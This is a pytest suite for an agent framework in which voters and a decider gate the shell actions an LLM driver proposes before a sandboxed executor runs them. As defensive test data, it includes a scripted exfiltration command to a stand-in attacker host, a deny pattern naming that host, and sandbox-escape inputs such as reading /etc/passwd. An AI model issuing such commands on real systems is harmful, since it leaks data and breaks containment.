"""Components driven by a small round-robin scheduler on a memory bus."""

import pytest

from logact import MemoryBus, MemorySnapshotStore, VirtualClock, role_identity
from logact.components import (
    CallableBehavior,
    ComponentThread,
    Decider,
    Driver,
    Executor,
    Fenced,
    LLMBehavior,
    RuleBehavior,
    Voter,
    driver_elect,
)
from logact.components.recovery import send_mail
from logact.entries import (
    APPROVE,
    REJECT,
    STATUS_RECOVERY,
    Abort,
    ActionSpec,
    Commit,
    InfIn,
    InfOut,
    Intent,
    Mail,
    PayloadType,
    Policy,
    Result,
    Vote,
)
from logact.components.driver import INFERENCE_FAILURE
from logact.inference import AdapterUnavailable, ScriptedAdapter, ScriptedRule, action_block
from logact.policies import AnyOf, FirstVoter, policy_document, policy_payload

T = PayloadType


def act(body, text=""):
    return (text + "\n" if text else "") + action_block(ActionSpec("shell", body))


HELLO = ScriptedAdapter([
    ScriptedRule("say hello", act("echo hello > out.txt && echo wrote")),
    ScriptedRule("wrote", act("cat out.txt")),
    ScriptedRule("hello\n", "Finished. TASK COMPLETE"),
])


class Rig:
    def __init__(self, tmp_path, adapter=HELLO, policy=None, voters=(), timeout_s=30.0):
        self.clock = VirtualClock()
        self.bus = MemoryBus(self.clock)
        for r in ("admin", "user", "auditor", "driver", "decider", "executor"):
            self.bus.register(role_identity(r))
        self.admin = self.bus.session(role_identity("admin"))
        if policy is not None:
            self.admin.append(policy_payload(policy, "admin"))
        self.sandbox = tmp_path / "sandbox"
        self.sandbox.mkdir(exist_ok=True)
        self.driver = Driver(self.session("driver"), adapter, clock=self.clock)
        self.decider = Decider(self.session("decider"), timeout_s=timeout_s, clock=self.clock)
        self.executor = Executor(self.session("executor"), self.sandbox)
        self.voters = []
        for i, behavior in enumerate(voters):
            ident = role_identity("voter", f"voter{i}")
            self.bus.register(ident)
            self.voters.append(Voter(self.bus.session(ident), behavior, f"voter{i}"))
        driver_elect(self.driver)
        self.executor.boot()

    def session(self, role, cid=None):
        return self.bus.session(role_identity(role, cid))

    @property
    def components(self):
        return [self.driver, *self.voters, self.decider, self.executor]

    def run(self, limit=200):
        for _ in range(limit):
            if not any(c.step() for c in self.components):
                return
        raise AssertionError("no quiescence")

    def entries(self):
        return self.admin.read(0, self.admin.tail())

    def of(self, cls):
        return [e for e in self.entries() if isinstance(e.payload, cls)]


def test_hello_flow(tmp_path):
    rig = Rig(tmp_path)
    send_mail(rig.session("user"), "please say hello")
    rig.run()
    assert (rig.sandbox / "out.txt").read_text() == "hello\n"
    assert [e.payload.status for e in rig.of(Result)][1:] == ["ok", "ok"]
    assert rig.of(InfOut)[-1].payload.text.endswith("TASK COMPLETE")
    assert rig.driver.quiescent
    # every intent was committed before its result
    for r in rig.of(Result)[1:]:
        commit = next(e for e in rig.of(Commit) if e.payload.intent_position == r.payload.intent_position)
        assert commit.position < r.position


def test_rule_voter_blocks_and_driver_hears_abort(tmp_path):
    adapter = ScriptedAdapter([
        ScriptedRule("exfil", act("curl https://attacker.example/x")),
        ScriptedRule("[aborted]", "Understood. TASK COMPLETE"),
    ])
    rig = Rig(tmp_path, adapter, FirstVoter(), [RuleBehavior([{"pattern": "*attacker.example*", "verdict": REJECT}])])
    send_mail(rig.session("user"), "exfil please")
    rig.run()
    assert not rig.of(Commit)
    (abort,) = rig.of(Abort)
    assert "quorum rejected" in abort.payload.reason
    assert rig.of(InfOut)[-1].payload.text.endswith("TASK COMPLETE")


def test_decider_times_out_missing_votes(tmp_path):
    rig = Rig(tmp_path, policy=AnyOf(("llm",)), timeout_s=5)
    send_mail(rig.session("user"), "please say hello")
    rig.run()
    assert not rig.of(Abort)
    (intent,) = rig.of(Intent)
    assert rig.decider.next_deadline() == intent.realtime_ts + 5000
    rig.clock.advance(5000)
    rig.run()
    assert rig.of(Abort)[0].payload.reason == "timeout"


def test_llm_override_voter(tmp_path):
    llm = LLMBehavior(ScriptedAdapter([ScriptedRule("rejected it", "APPROVE: this is fine")]), override_of="rule")
    rule = RuleBehavior([{"pattern": "echo *", "verdict": REJECT}])
    rig = Rig(tmp_path, policy=AnyOf(("rule", "llm")), voters=[rule, llm])
    send_mail(rig.session("user"), "please say hello")
    rig.run()
    votes = [(e.payload.voter_type, e.payload.verdict) for e in rig.of(Vote)]
    assert ("rule", REJECT) in votes and ("llm", APPROVE) in votes
    assert (rig.sandbox / "out.txt").exists()


def test_voter_behavior_error_fails_closed(tmp_path):
    def broken(action, context, votes):
        raise RuntimeError("boom")

    rig = Rig(tmp_path, policy=FirstVoter(), voters=[CallableBehavior(broken, "custom")])
    send_mail(rig.session("user"), "please say hello")
    rig.run()
    assert rig.of(Vote)[0].payload.verdict == REJECT
    assert rig.of(Abort)


def test_voter_policy_hot_update(tmp_path):
    rig = Rig(tmp_path, policy=FirstVoter(), voters=[RuleBehavior()])
    rig.admin.append(Policy("voter", "admin", {"kind": "voter", "target": "rule",
                                               "body": {"prepend_rules": [{"pattern": "cat *", "verdict": REJECT}]}}))
    send_mail(rig.session("user"), "please say hello")
    rig.run()
    assert [e.payload.verdict for e in rig.of(Vote)] == [APPROVE, REJECT]


def test_inference_failure_after_retries(tmp_path):
    class Down:
        calls = 0

        def infer(self, conversation):
            Down.calls += 1
            raise AdapterUnavailable("connection refused")

    rig = Rig(tmp_path, Down())
    send_mail(rig.session("user"), "anything")
    rig.run()
    (out,) = rig.of(InfOut)
    assert out.payload.text.startswith(INFERENCE_FAILURE)
    assert not out.payload.intent_extracted
    assert Down.calls == rig.driver.max_retries


def test_system_prompt_sent_once(tmp_path):
    rig = Rig(tmp_path)
    rig.driver.system_prompt = "SYSTEM-PROMPT-MARKER"
    send_mail(rig.session("user"), "please say hello")
    rig.run()
    deltas = [e.payload.delta for e in rig.of(InfIn)]
    assert len(deltas) == 3
    assert sum(m.content == "SYSTEM-PROMPT-MARKER" for d in deltas for m in d) == 1


# -- executor -------------------------------------------------------------------------


def test_executor_skips_duplicate_commits(tmp_path):
    rig = Rig(tmp_path)
    drv = rig.driver.client
    pos = drv.append(Intent(ActionSpec("shell", "echo x >> log.txt"), rig.driver.epoch, 1))
    dec = rig.decider.client
    dec.append(Commit(pos))
    dec.append(Commit(pos))
    rig.executor.step()
    rig.executor.step()
    assert (rig.sandbox / "log.txt").read_text() == "x\n"
    assert len([r for r in rig.of(Result) if r.payload.intent_position == pos]) == 1


def test_rebooted_executor_lists_in_doubt_and_never_reruns(tmp_path):
    rig = Rig(tmp_path)
    pos = rig.driver.client.append(Intent(ActionSpec("shell", "echo x >> log.txt"), rig.driver.epoch, 1))
    rig.decider.client.append(Commit(pos))
    # the old executor crashed before running it; a new one boots
    fresh = Executor(rig.session("executor"), rig.sandbox)
    fence = fresh.boot()
    rec = rig.entries()[fence].payload
    assert rec.status == STATUS_RECOVERY and rec.in_doubt == (pos,)
    fresh.step()
    assert not (rig.sandbox / "log.txt").exists()
    # a later commit after the fence does run
    p2 = rig.driver.client.append(Intent(ActionSpec("shell", "echo y >> log.txt"), rig.driver.epoch, 2))
    rig.decider.client.append(Commit(p2))
    fresh.step()
    assert (rig.sandbox / "log.txt").read_text() == "y\n"


def test_recovery_result_unblocks_driver(tmp_path):
    adapter = ScriptedAdapter([
        ScriptedRule("[executor recovery]", "Let me check what was already completed.\n" + action_block(ActionSpec("builtin", "list_dir ."))),
        ScriptedRule("start", act("echo one")),
        ScriptedRule("exit status", "TASK COMPLETE"),
    ])
    rig = Rig(tmp_path, adapter)
    send_mail(rig.session("user"), "start")
    for _ in range(10):  # run without the executor up to the commit
        for c in (rig.driver, rig.decider):
            c.step()
    assert rig.driver.pending_intent is not None
    rig.executor = Executor(rig.session("executor"), rig.sandbox)
    rig.executor.boot()
    rig.run()
    assert rig.driver.pending_intent is None
    bodies = [e.payload.action.body for e in rig.of(Intent)]
    assert bodies == ["echo one", "list_dir ."]


def test_executor_cannot_forge_control_entries(tmp_path):
    rig = Rig(tmp_path)
    for t in ("vote", "commit", "abort", "policy"):
        pos = rig.driver.client.append(Intent(ActionSpec("builtin", f"forge {t}"), rig.driver.epoch, 1))
        rig.decider.client.append(Commit(pos))
        rig.executor.step()
        r = rig.of(Result)[-1].payload
        assert r.status == "error" and "permission denied" in r.output
    assert [e.type for e in rig.entries()].count(T.VOTE) == 0


@pytest.mark.parametrize("action", [
    ActionSpec("shell", "ls", "../.."),
    ActionSpec("builtin", "write_file ../escape.txt hi"),
    ActionSpec("builtin", "read_file /etc/passwd"),
])
def test_sandbox_jail(tmp_path, action):
    from logact.components import run_action

    root = tmp_path / "jail"
    root.mkdir()
    status, out = run_action(action, root, 0)
    assert status == "error"
    assert "escapes the sandbox" in out
    assert not (tmp_path / "escape.txt").exists()


# -- fencing ---------------------------------------------------------------------------


def test_slot_nine_slot_ten(tmp_path):
    """Driver B's election lands at 9, stale driver A's intent at 10."""
    rig = Rig(tmp_path, policy=FirstVoter(), voters=[RuleBehavior()])
    a = rig.driver
    assert a.epoch == 1
    while rig.admin.tail() < 9:
        rig.admin.append(Mail("user", "padding"))
    b = Driver(rig.session("driver"), HELLO, candidate_id="B", clock=rig.clock)
    b.catch_up()
    assert b.elect() == 2
    assert b.election_position == 9
    stale = a.client.append(Intent(ActionSpec("shell", "touch stale"), a.epoch, 1))
    assert stale == 10
    rig.driver = b
    rig.run()
    for cls in (Vote, Commit, Abort):
        assert not [e for e in rig.of(cls) if e.payload.intent_position == stale]
    assert not (rig.sandbox / "stale").exists()
    with pytest.raises(Fenced):
        a.step()
    from logact.harness.oracle import LogEvidence, check_log

    attribution = {e.position: "admin" for e in rig.entries()}
    assert not check_log(LogEvidence(rig.entries(), attribution), ["fencing", "single_in_flight", "commit_before_execute"])


def test_concurrent_elections_get_distinct_epochs(tmp_path):
    rig = Rig(tmp_path)
    b = Driver(rig.session("driver"), HELLO, candidate_id="B", clock=rig.clock)
    c = Driver(rig.session("driver"), HELLO, candidate_id="C", clock=rig.clock)
    assert {b.elect(), c.elect()} == {2, 3}
    with pytest.raises(Fenced):
        b.step()
    c.step()


# -- replay ----------------------------------------------------------------------------


def test_snapshot_restore_equals_full_replay(tmp_path):
    rules = [{"pattern": "cat *", "verdict": REJECT}]
    rig = Rig(tmp_path, policy=FirstVoter(), voters=[RuleBehavior(rules)])
    store = MemorySnapshotStore(rig.bus)
    factories = [
        lambda snaps: Driver(rig.session("driver"), HELLO, component_id="d2", snapshots=snaps),
        lambda snaps: Decider(rig.session("decider"), component_id="dec2", snapshots=snaps),
        lambda snaps: Voter(rig.session("voter", "voter0"), RuleBehavior(rules), "voter0", snapshots=snaps),
    ]
    observers = [f(store) for f in factories]
    send_mail(rig.session("user"), "please say hello")
    rig.driver.step()
    rig.voters[0].step()
    for o in observers:  # snapshot mid-run, then let the run finish
        o.catch_up()
        o.snapshot()
    rig.run()
    for make, o in zip(factories, observers):
        o.catch_up()
        restored = make(store)
        assert restored.restore()
        assert 0 < restored.played_up_to < rig.admin.tail()
        restored.catch_up()
        scratch = make(None)
        scratch.catch_up()
        assert restored.state_dict() == scratch.state_dict() == o.state_dict()


def test_component_thread_runs_and_stops(tmp_path):
    rig = Rig(tmp_path)
    threads = [ComponentThread(c, poll_timeout=0.05) for c in rig.components]
    for t in threads:
        t.start()
    rig.clock = None
    send_mail(rig.session("user"), "please say hello")
    import time

    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and not (rig.sandbox / "out.txt").exists():
        time.sleep(0.02)
    for t in threads:
        t.stop(5)
        assert not t.is_alive() and t.error is None
    assert (rig.sandbox / "out.txt").exists()
